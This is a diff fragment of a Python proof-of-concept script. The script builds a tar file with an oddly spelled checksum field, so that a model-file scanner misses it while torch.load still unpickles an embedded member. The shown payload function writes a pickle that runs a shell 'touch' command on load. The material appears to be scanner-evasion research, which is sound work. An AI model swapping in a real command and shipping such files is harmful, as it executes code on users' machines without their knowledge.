@@ -6,7 +6,7 @@ accepts only octal digits, so DetectArchive says "not a tar" and the file is sca
 the first header's name field, a benign pickle.  torch.load tries tarfile first for any non-zip
 file, finds member 'storages' and pickle.load()s it.
 Usage: tar_chksum_spelling.py OUT MARKER [0o|plus|underscore|tab|nul]"""
-import sys, pickle
+import sys
 def payload(marker):
     return b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
 def header(name, size, style=None, magic=True):
